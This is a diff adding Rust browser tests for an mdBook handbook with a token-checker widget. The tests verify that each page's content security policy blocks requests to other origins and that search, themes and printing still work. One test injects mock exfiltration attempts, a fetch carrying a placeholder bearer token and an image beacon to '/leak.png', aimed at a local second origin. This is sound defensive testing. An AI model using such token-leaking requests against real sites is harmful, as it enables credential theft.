@@ -906,3 +906,225 @@ fn stock_mdbook_without_the_asset_lines_is_warned() {
             .is_file()
     );
 }
+
+/// Before any page script: counts `window.print()` calls and records every policy violation.
+const WATCH_JS: &str = r#"
+window.__printed = 0;
+window.print = function () { window.__printed += 1; };
+window.__violations = [];
+document.addEventListener("securitypolicyviolation", function (e) {
+  window.__violations.push(e.effectiveDirective + " " + e.blockedURI);
+});
+"#;
+
+/// The fixture book with the handbook's "where your token goes" chapter, built against the mock
+/// Hub and served with no header of ours: only the policy the build put in each page.
+fn guarded_site() -> (BookFixture, MockHub, BackgroundServer) {
+    let book = BookFixture::copy("token-checker-book");
+    fs::copy(
+        repo_root().join("book/where-your-token-goes.md"),
+        book.root().join("src/where-your-token-goes.md"),
+    )
+    .unwrap();
+    book.append(
+        "src/SUMMARY.md",
+        "- [Where your token goes](where-your-token-goes.md)\n",
+    );
+    // Its links point at chapters of the handbook this fixture does not have.
+    let chapter = book.root().join("src/where-your-token-goes.md");
+    let text = fs::read_to_string(&chapter).unwrap();
+    fs::write(
+        &chapter,
+        text.replace("(testing-your-token.md)", "(read.md)")
+            .replace("(keeping-your-token-safe.md)", "(write.md)"),
+    )
+    .unwrap();
+    let hub = MockHub::start().expect("mock Hub starts");
+    let out = build(&BuildOptions {
+        book: book.root().to_path_buf(),
+        dest: Some(book.root().join("out")),
+        hub_endpoint: Some(hub.url().to_string()),
+    })
+    .expect("the fixture book builds");
+    let server = BackgroundServer::start(book_router(&out, None)).expect("book server starts");
+    (book, hub, server)
+}
+
+async fn watch(driver: &WebDriver) {
+    driver
+        .cdp()
+        .send_raw(
+            "Page.addScriptToEvaluateOnNewDocument",
+            serde_json::json!({ "source": WATCH_JS }),
+        )
+        .await
+        .unwrap();
+}
+
+async fn violations(driver: &WebDriver) -> Vec<String> {
+    let value = driver
+        .execute("return window.__violations || [];", vec![])
+        .await
+        .unwrap();
+    serde_json::from_value(value.json().clone()).unwrap()
+}
+
+#[test]
+fn the_pages_policy_refuses_other_origins_and_lets_the_checker_reach_the_hub() {
+    let (_book, hub, server) = guarded_site();
+    // Another origin that would answer (CORS open): only the port differs.
+    let elsewhere = MockHub::start().expect("second mock Hub starts");
+    let token = hub.token(TokenKind::Read);
+    let (url, elsewhere_url) = (
+        format!("{}/read.html", server.url()),
+        elsewhere.url().to_string(),
+    );
+    let hubs = std::sync::Arc::new((hub, elsewhere));
+    let shared = hubs.clone();
+    with_browser(move |driver| async move {
+        watch(&driver).await;
+        driver.goto(&url).await.unwrap();
+        let w = widget(&driver).await;
+        let guard = w.find(By::Css(".hubcheck-guard")).await.unwrap();
+        let sentence = guard.text().await.unwrap();
+        assert!(
+            sentence.contains("Your browser itself blocks this page from sending anything"),
+            "{sentence}"
+        );
+        assert!(sentence.contains("127.0.0.1"), "{sentence}");
+        let link = guard.find(By::Css("a")).await.unwrap();
+        let href = link.prop("href").await.unwrap().unwrap_or_default();
+        assert!(href.ends_with("/where-your-token-goes.html"), "{href}");
+
+        // Any script on the page: the browser refuses to send to another origin.
+        let outcome = driver
+            .execute_async(
+                r#"const done = arguments[arguments.length - 1];
+                   fetch(arguments[0] + "/api/whoami-v2", { headers: { authorization: "Bearer x" } })
+                     .then(() => done("sent"), (e) => done("refused: " + e));"#,
+                vec![Value::from(elsewhere_url.clone())],
+            )
+            .await
+            .unwrap();
+        let outcome = outcome.json().as_str().unwrap_or_default().to_string();
+        assert!(outcome.starts_with("refused"), "{outcome}");
+        // An image, the old way round a fetch rule, is refused too.
+        driver
+            .execute(
+                "const i = new Image(); i.src = arguments[0] + '/leak.png?t=x'; document.body.append(i);",
+                vec![Value::from(elsewhere_url.clone())],
+            )
+            .await
+            .unwrap();
+        tokio::time::sleep(Duration::from_millis(500)).await;
+        let seen = violations(&driver).await;
+        assert!(
+            seen.iter()
+                .any(|v| v.starts_with("connect-src") && v.contains(&elsewhere_url)),
+            "{seen:?}"
+        );
+        assert!(seen.iter().any(|v| v.starts_with("img-src")), "{seen:?}");
+        assert!(
+            shared.1.request_log().is_empty(),
+            "the other origin was reached"
+        );
+
+        // The token checker still reaches the configured Hub.
+        let (state, text) = type_and_press(&driver, &token, LIVE).await;
+        assert_eq!(state, "valid", "{text}");
+        assert_hub_saw_only_whoami(&shared.0, 1);
+        let seen = violations(&driver).await;
+        assert_eq!(seen.len(), 2, "only the two refusals above: {seen:?}");
+    });
+}
+
+#[test]
+fn search_theme_switching_and_print_work_under_the_pages_policy() {
+    let (_book, _hub, server) = guarded_site();
+    let base = server.url().to_string();
+    with_browser(move |driver| async move {
+        watch(&driver).await;
+        driver.goto(format!("{base}/read.html")).await.unwrap();
+        // The sidebar and theme set-up are inline scripts: they ran.
+        let inline = driver
+            .execute("return typeof path_to_root === 'string';", vec![])
+            .await
+            .unwrap();
+        assert_eq!(inline.json(), &Value::Bool(true));
+
+        // Search: the index loads and finds a chapter.
+        driver
+            .find(By::Id("mdbook-search-toggle"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        let bar = driver.find(By::Id("mdbook-searchbar")).await.unwrap();
+        bar.send_keys("upload").await.unwrap();
+        let results = driver
+            .query(By::Css("#mdbook-searchresults li"))
+            .first()
+            .await
+            .expect("search shows results");
+        assert!(
+            results
+                .text()
+                .await
+                .unwrap()
+                .to_lowercase()
+                .contains("upload")
+        );
+
+        // Theme switching, through mdBook's own menu.
+        driver
+            .find(By::Id("mdbook-theme-toggle"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        driver
+            .find(By::Id("mdbook-theme-navy"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        let class = driver
+            .execute("return document.documentElement.className;", vec![])
+            .await
+            .unwrap();
+        assert!(class.json().as_str().unwrap().contains("navy"), "{class:?}");
+        assert!(
+            violations(&driver).await.is_empty(),
+            "{:?}",
+            violations(&driver).await
+        );
+
+        // Print: the page with every chapter asks the browser to print.
+        driver.goto(format!("{base}/print.html")).await.unwrap();
+        let deadline = Instant::now() + Duration::from_secs(10);
+        loop {
+            let printed = driver
+                .execute("return window.__printed;", vec![])
+                .await
+                .unwrap();
+            if printed.json().as_u64() == Some(1) {
+                break;
+            }
+            assert!(Instant::now() < deadline, "print.html never called print()");
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        let checkers = driver
+            .find_all(By::Css(".hubcheck-token-check.hubcheck-ready"))
+            .await
+            .unwrap();
+        assert_eq!(checkers.len(), 2);
+        assert!(
+            violations(&driver).await.is_empty(),
+            "{:?}",
+            violations(&driver).await
+        );
+    });
+}
